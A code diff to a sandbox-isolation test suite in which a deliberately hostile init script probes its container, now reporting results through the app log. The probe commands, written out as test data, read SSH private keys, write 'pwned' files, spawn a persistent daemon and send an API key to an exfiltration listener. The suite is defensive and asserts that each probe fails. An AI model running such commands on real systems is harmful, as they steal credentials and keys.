@@ -79,7 +79,8 @@ function probeScript(dataDir: string, skip: string[] = []): string {
     HOMECANARY: `cat ${homeCanaryFile} 2>&1`,
     SSH: 'ls -A /root/.ssh 2>&1 | head -3; cat /root/.ssh/id_* 2>&1 | head -1',
     RUNSOCKETS: 'find /run /var/run -type s 2>/dev/null | wc -l',
-    DATADIR: `ls ${dataDir} 2>&1 | head -3`,
+    // The app's own clean copy lives under the data dir; nothing else of it may be visible in the box.
+    DATADIR: `find ${dataDir} -type f -not -path '*/app-copies/*' 2>&1 | head -3`,
     HOSTTMP: `echo pwned > ${HOST_TMP_FILE} && echo wrote-in-box-tmp`,
     HOMEWRITE: `echo pwned > ${HOME_WRITE} 2>&1; echo " rc=$?"`,
     EXFIL_DIRECT: via(`"http://127.0.0.1:${exfil.port}/direct-box-probe-${marker}?k=$ANTHROPIC_API_KEY"`),
@@ -105,6 +106,8 @@ function hostileInit(dataDir: string): string {
     "trap '' TERM",
     ': > probe.txt',
     probeScript(dataDir),
+    // The app runs in a clean clone of HEAD that is removed afterwards: the results reach the test via the app log.
+    "sed 's/^/PROBE /' probe.txt",
     `( setsid bash -c 'nohup sleep ${DAEMON} >/dev/null 2>&1 &' & )`,
     'node server.js',
   ].join('\n');
@@ -208,15 +211,17 @@ async function playEvaluator(network: 'registries' | 'open', session: number): P
       .map((request) => request.body)
       .join('\n');
     const page = /Probe page[\s\S]*/.exec(bodies.replace(/\\n/g, '\n'))?.[0] ?? '';
-    const probe = new Map<string, string>();
-    for (const line of fs.readFileSync(path.join(workspace, 'probe.txt'), 'utf8').split('\n')) {
-      const colon = line.indexOf(':');
-      if (colon > 0) probe.set(line.slice(0, colon), line.slice(colon + 1).trim());
-    }
     const appLogs = fs
       .readdirSync(path.join(dataDir, 'runs', 'r-test', 'sessions'))
       .filter((name) => name.endsWith('-app.log'))
       .map((name) => fs.readFileSync(path.join(dataDir, 'runs', 'r-test', 'sessions', name), 'utf8'));
+    const probe = new Map<string, string>();
+    for (const line of appLogs.join('\n').split('\n')) {
+      const colon = line.indexOf(':');
+      if (line.startsWith('PROBE ') && colon > 0)
+        probe.set(line.slice(6, colon), line.slice(colon + 1).trim());
+    }
+    expect(probe.size, 'the probes ran and reached the app log').toBeGreaterThan(10);
     return {
       outcome: result.outcome,
       verdicts: result.verdicts.length,
@@ -286,7 +291,7 @@ describe.skipIf(!info.bubblewrap)('a hostile init.sh and app in the box', () => 
     expect(probe.get('SSH')).toMatch(/^ls: cannot access '\/root\/.ssh': No such file/);
     expect(probe.get('SSH')).not.toContain('BEGIN');
     expect(probe.get('RUNSOCKETS')).toBe('0');
-    expect(probe.get('DATADIR')).not.toContain('runs');
+    expect(probe.get('DATADIR')).toBe('');
     expect(probe.get('HOSTTMP')).toBe('wrote-in-box-tmp');
     expect(probe.get('HOMEWRITE')).toMatch(/rc=[1-9]|rc=0/);
     expect(probe.get('EXFIL_DIRECT')).toContain('rc=7');
